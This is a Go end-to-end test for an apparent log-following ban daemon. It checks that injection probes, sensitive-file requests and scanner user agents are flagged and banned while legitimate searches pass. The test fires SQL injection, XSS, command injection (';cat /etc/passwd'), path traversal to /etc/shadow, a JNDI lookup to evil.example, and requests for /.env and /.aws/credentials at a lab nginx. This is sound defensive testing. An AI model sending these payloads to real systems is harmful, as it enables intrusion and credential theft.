package e2e

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os/exec"
	"strings"
	"testing"
	"time"

	"github.com/apiguard/apiguard/test/lab"
	"github.com/apiguard/apiguard/test/testenv"
	"github.com/apiguard/apiguard/userspace/control"
)

const apiProbesPolicy = `apiVersion: apiguard.io/v1
kind: Policy
metadata: {name: api-probes-e2e}
spec:
  services:
    - name: api
      protocol: tcp
      ports: [8080]
  neverBan: [%s]
  detection:
    injection-probe: {requests: 10, window: 1m}
    sensitive-files: {requests: 5, window: 1m}
    scanner-agent: {requests: 5, window: 1m}
  bans: {ttl: 1m}
  accessLogs:
    - path: %s
`

const (
	browserUA = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
	scannerUA = "sqlmap/1.7.2#stable (https://sqlmap.org)"
)

// send requests target (already escaped, as a client writes it in its
// request line) with a user agent and extra headers, and returns the status,
// or an error when no answer came (a ban drops the connection's SYN).
func send(c *apiClient, target, ua string, headers ...string) (int, error) {
	req, err := http.NewRequest(http.MethodGet, c.base+target, nil)
	if err != nil {
		return 0, err
	}
	req.Header.Set("User-Agent", ua)
	for i := 0; i+1 < len(headers); i += 2 {
		req.Header.Set(headers[i], headers[i+1])
	}
	resp, err := c.http.Do(req)
	if err != nil {
		return 0, err
	}
	defer resp.Body.Close()
	_, _ = io.Copy(io.Discard, resp.Body)
	return resp.StatusCode, nil
}

// sendLine writes a request line as it is (what no HTTP client library
// sends: spaces around the target, an absolute target) over a connection
// from c's address, and returns the status nginx answered, or an error when
// no answer came.
func sendLine(c *apiClient, line string) (int, error) {
	tr := c.http.Transport.(*http.Transport)
	ctx, cancel := context.WithTimeout(context.Background(), time.Second)
	defer cancel()
	conn, err := tr.DialContext(ctx, "tcp", strings.TrimPrefix(c.base, "http://"))
	if err != nil {
		return 0, err
	}
	defer conn.Close()
	if err := conn.SetDeadline(time.Now().Add(time.Second)); err != nil {
		return 0, err
	}
	if _, err := io.WriteString(conn, line+"\r\nHost: api.example\r\nUser-Agent: curl/8.5.0\r\nConnection: close\r\n\r\n"); err != nil {
		return 0, err
	}
	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		return 0, err
	}
	defer resp.Body.Close()
	return resp.StatusCode, nil
}

// probePace spaces a prober's requests. The ban follows the log line through
// the follower, the detector and the ban book's fdatasync: on a busy machine
// that takes tens of milliseconds, while a request here takes one. Paced,
// the margin a test leaves past a threshold (30 requests or more) is most of
// a second of that path, not a few milliseconds.
const probePace = 20 * time.Millisecond

// probeUntilBanned sends targets in turn until one gets no answer (the ban)
// or limit are answered; it returns how many were answered.
func probeUntilBanned(t *testing.T, c *apiClient, targets []string, ua string, limit int, headers ...string) int {
	t.Helper()
	for i := range limit {
		if _, err := send(c, targets[i%len(targets)], ua, headers...); err != nil {
			return i
		}
		time.Sleep(probePace)
	}
	return limit
}

// TestAPIProbesEndToEnd: nginx in the guarded namespace writes its access
// log and the daemon follows it. A client sending injection payloads (and a
// forged X-Forwarded-For naming the legitimate client) is flagged
// injection-probe with the payload's class and banned; one asking for
// /.env, /.git/config and the like is flagged sensitive-files and banned; a
// scanner's user agent is flagged at its first request, still served, and
// banned past the threshold; a client in the never-ban set is flagged and
// never banned; a report of the application's own validation bans a client
// the log never saw; a legitimate client whose searches hold quotes,
// "select", "script", non-ASCII text and long tokens is never flagged.
func TestAPIProbesEndToEnd(t *testing.T) {
	testenv.RequireRoot(t)
	e := newEnv(t)
	ngx := e.startNginx(t)
	logPath := ngx.accessLog()
	legitAddr, injAddr, fileAddr := e.peerAddr(t, 30), e.peerAddr(t, 31), e.peerAddr(t, 32)
	scanAddr, spareAddr, reported := e.peerAddr(t, 33), e.peerAddr(t, 34), e.peerAddr(t, 35)
	rawAddr := e.peerAddr(t, 36)
	d := e.startDaemon(e.write("probes.yaml", fmt.Sprintf(apiProbesPolicy, spareAddr, logPath)))
	if !lab.WaitFor(10*time.Second, func() bool {
		for _, l := range e.status().AccessLogs {
			if l.Path == logPath && l.Error == "" {
				return true
			}
		}
		return false
	}) {
		t.Fatalf("the daemon does not follow %s\n%s", logPath, d.logText())
	}
	base := e.accessLogStatus(t, logPath).Lines

	// the legitimate client's traps, and a few 404s
	legit := e.httpFrom(t, legitAddr)
	legitTargets := []string{
		"/api/search?q=O%27Reilly+books", "/api/search?q=select+a+script+for+the+play",
		"/api/search?q=%22exact+phrase%22+and+more", "/api/search?q=caf%C3%A9+cr%C3%A8me",
		"/api/search?q=%E6%9D%B1%E4%BA%AC+%E3%83%A9%E3%83%BC%E3%83%A1%E3%83%B3",
		"/api/items/3f2504e0-4f89-11d3-9a0c-0305e82c3301", "/api/items?ids=1,2,3&fields=name,price",
		"/api/session?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
		"/api/tickets?jql=status%20%3D%20%22Open%22%20AND%20assignee%20%3D%20me",
		"/api/search?q=how+to+use+alert()+in+javascript", "/api/products?fields=name%7Cid",
		"/api/search?q=rock+%27n%27+roll%3B+salt+%26+pepper", "/items/4242", "/.well-known/openid-configuration",
	}
	const legitRequests = 140
	for i := range legitRequests {
		target := legitTargets[i%len(legitTargets)]
		code, err := send(legit, target, browserUA)
		if err != nil || (code != 200 && code != 404) {
			t.Fatalf("legitimate request %s: %d %v", target, code, err)
		}
	}

	// injections of every class, with a forged header naming the
	// legitimate client: nginx logs the peer, and the peer is banned
	injections := []string{
		"/api/items?id=1%27%20or%20%271%27%3D%271", "/api/items?id=-1%20union%20select%20username,password%20from%20users--",
		"/api/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", "/api/search?q=%22%3E%3Csvg/onload=alert(1)%3E",
		"/api/ping?host=127.0.0.1%3Bcat%20/etc/passwd", "/api/ping?host=%60id%60",
		"/api/files?name=..%2f..%2f..%2fetc%2fpasswd", "/api/files?name=....//....//etc/shadow",
		"/api/render?tpl=%7B%7B7*7%7D%7D", "/api/render?tpl=%24%7Bjndi:ldap://evil.example/a%7D",
		"/api/items?id=1%2527%2520or%2520sleep(5)--", "/api/items?id=1%EF%BC%87%20or%201=1--",
	}
	inj := e.httpFrom(t, injAddr)
	answered := probeUntilBanned(t, inj, injections, "curl/8.5.0", 60, "X-Forwarded-For", legitAddr.String())
	fl := e.flagFor(t, injAddr.String(), "injection-probe")
	if fl == nil || !fl.Ban.Banned {
		t.Fatalf("injection probes (%d answered) not flagged and banned: %+v", answered, fl)
	}
	if answered < 11 || answered >= 60 {
		t.Fatalf("%d injection probes answered: want the ban after the 11th", answered)
	}
	if fl.Evidence.Class == "" || fl.Evidence.Match == "" || !strings.Contains(fl.Evidence.Summary, "injection probes in 1m0s") {
		t.Fatalf("evidence %+v", fl.Evidence)
	}
	t.Logf("injection-probe: banned after %d probes; evidence: %s", answered, fl.Evidence.Summary)

	// sensitive files, answered 404
	files := []string{"/.env", "/.git/config", "/wp-login.php", "/backup.sql", "/phpmyadmin/index.php", "/server-status",
		"/static/..%2f.env", "/.aws/credentials"}
	answered = probeUntilBanned(t, e.httpFrom(t, fileAddr), files, "curl/8.5.0", 40)
	fl = e.flagFor(t, fileAddr.String(), "sensitive-files")
	if fl == nil || !fl.Ban.Banned || answered < 6 || answered >= 40 {
		t.Fatalf("sensitive files (%d answered): %+v", answered, fl)
	}
	t.Logf("sensitive-files: banned after %d requests; evidence: %s", answered, fl.Evidence.Summary)

	// request lines nginx serves and logs as sent, which the first parser
	// read with an empty path or one not from the root: a client sending
	// only those is banned all the same
	lines := []string{"GET  /.env HTTP/1.1", "GET   /.git/config   HTTP/1.1", "GET http://api.example/server-status HTTP/1.1",
		"GET  /backup.sql?id=1%27%20or%20%271%27%3D%271 HTTP/1.1"}
	rawClient := e.httpFrom(t, rawAddr)
	answered = 0
	for answered < 40 {
		code, err := sendLine(rawClient, lines[answered%len(lines)])
		if err != nil {
			break
		}
		if code != 404 && code != 403 {
			t.Fatalf("%q: nginx answered %d", lines[answered%len(lines)], code)
		}
		answered++
		time.Sleep(probePace)
	}
	fl = e.flagFor(t, rawAddr.String(), "sensitive-files")
	if fl == nil || !fl.Ban.Banned || answered < 6 || answered >= 40 {
		t.Fatalf("request lines with spaces and absolute targets (%d answered): %+v", answered, fl)
	}
	t.Logf("sensitive-files from raw request lines: banned after %d requests; evidence: %s", answered, fl.Evidence.Summary)

	// a scanner's user agent: flagged at once, still served, banned past 5
	scan := e.httpFrom(t, scanAddr)
	if code, err := send(scan, "/api/items", scannerUA); err != nil || code != 200 {
		t.Fatalf("scanner's first request: %d %v", code, err)
	}
	var sf *control.Flag
	if !lab.WaitFor(5*time.Second, func() bool { sf = e.flagFor(t, scanAddr.String(), "scanner-agent"); return sf != nil }) {
		t.Fatalf("one request with %q not flagged\n%s", scannerUA, d.logText())
	}
	if sf.Ban.Banned || sf.Action != "flag" || !strings.Contains(sf.Evidence.Summary, `matches "sqlmap"`) {
		t.Fatalf("after one request: %+v", sf)
	}
	if code, err := send(scan, "/api/items", browserUA); err != nil || code != 200 {
		t.Fatalf("a flagged scanner is no longer served: %d %v", code, err)
	}
	answered = probeUntilBanned(t, scan, []string{"/api/items?page=2"}, scannerUA, 30)
	sf = e.flagFor(t, scanAddr.String(), "scanner-agent")
	if sf == nil || !sf.Ban.Banned || sf.Episodes != 1 || answered < 5 || answered >= 30 {
		t.Fatalf("scanner (%d more answered): %+v", answered, sf)
	}

	// the never-ban set: flagged, never banned, served
	spare := e.httpFrom(t, spareAddr)
	if n := probeUntilBanned(t, spare, injections, "curl/8.5.0", 15); n != 15 {
		t.Fatalf("a client in the never-ban set lost its requests after %d", n)
	}
	if !lab.WaitFor(5*time.Second, func() bool { return e.flagFor(t, spareAddr.String(), "injection-probe") != nil }) {
		t.Fatal("the never-ban client's probes were not flagged")
	}
	if f := e.flagFor(t, spareAddr.String(), "injection-probe"); f.Ban.Banned || !strings.Contains(f.Ban.Skipped, "never banned") {
		t.Fatalf("never-ban client: %+v", f.Ban)
	}

	// the application's validation caught an injection: a report
	curl := testenv.RequireTool(t, "curl")
	out, err := exec.Command(curl, "-sS", "--fail-with-body", "--unix-socket", e.d.Config.Socket, "-X", "POST", "http://apiguard/v1/report",
		"-H", "Content-Type: application/json",
		"-d", fmt.Sprintf(`{"client":%q,"reason":"injection","weight":11,"path":"/api/items?q=%%3Cscript%%3E"}`, reported)).CombinedOutput()
	if err != nil || !strings.Contains(string(out), `"reason":"injection-probe"`) || !strings.Contains(string(out), `"counted":true`) {
		t.Fatalf("curl report: %v\n%s", err, out)
	}
	if f := e.flagFor(t, reported.String(), "injection-probe"); f == nil || !f.Ban.Banned || f.Evidence.Class != "xss" {
		t.Fatalf("reported client: %+v", f)
	}

	// every line was read; the legitimate client was never flagged, and is
	// still served
	if !lab.WaitFor(10*time.Second, func() bool { return e.accessLogStatus(t, logPath).Lines >= base+legitRequests }) {
		t.Fatalf("lines read: %+v", e.accessLogStatus(t, logPath))
	}
	var flags []control.Flag
	e.jsonCLI(&flags, "clients", "flagged")
	for _, f := range flags {
		if f.Prefix.Addr() == legitAddr {
			t.Fatalf("legitimate client flagged (framed?): %+v", f)
		}
	}
	if code, err := send(legit, legitTargets[0], browserUA); err != nil || code != 200 {
		t.Fatalf("legitimate client after the attacks: %d %v", code, err)
	}

	// clients flagged, events and metrics show them like the other reasons
	table := e.mustCLI("clients", "flagged")
	for _, want := range []string{"injection-probe", "sensitive-files", "scanner-agent", injAddr.String(), "not banned: never banned"} {
		if !strings.Contains(table, want) {
			t.Errorf("clients flagged lacks %q:\n%s", want, table)
		}
	}
	// the banned injector's next connection is a ban hit in the datapath
	_, _ = send(inj, "/api/items", "curl/8.5.0")
	var events []control.Event
	for _, line := range strings.Split(strings.TrimSpace(e.mustCLI("events", "-n", "1000", "-o", "json")), "\n") {
		var ev control.Event
		if err := json.Unmarshal([]byte(line), &ev); err != nil {
			t.Fatalf("events line %q: %v", line, err)
		}
		events = append(events, ev)
	}
	hit := false
	for _, ev := range events {
		hit = hit || ev.Type == "ban_hit" && ev.Client == injAddr.String()
	}
	if !hit {
		t.Errorf("no ban_hit event for %s among %d events", injAddr, len(events))
	}
	body := e.scrape(t)
	for _, r := range []string{"injection-probe", "sensitive-files", "scanner-agent"} {
		if v, ok := metric(body, fmt.Sprintf(`apiguard_clients_flagged_total{reason=%q}`, r)); !ok || v < 1 {
			t.Errorf("flags metric for %s: %v %v", r, v, ok)
		}
	}
}
